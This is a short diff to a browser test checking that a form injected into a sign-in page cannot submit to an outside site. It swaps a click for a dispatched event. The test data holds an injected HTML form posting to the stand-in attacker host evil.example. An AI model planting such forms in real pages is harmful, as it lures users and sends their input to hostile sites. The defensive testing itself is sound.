@@ -38,7 +38,8 @@ test("a form that got into a page sends nothing to another site", async ({ page,
   await putIn(page, '<form action="https://evil.example/" method="post"><button>Win a prize</button></form>');
   await page.goto("/sign-in");
   await hydrated(page);
-  await page.getByRole("button", { name: "Win a prize" }).click();
+  // Not a click: that waits for where the form would lead.
+  await page.getByRole("button", { name: "Win a prize" }).dispatchEvent("click");
   await expect.poll(() => stopped.length, "the policy says so").toBeGreaterThan(0);
   await expect(page).toHaveURL("/sign-in");
   stopped.length = 0;
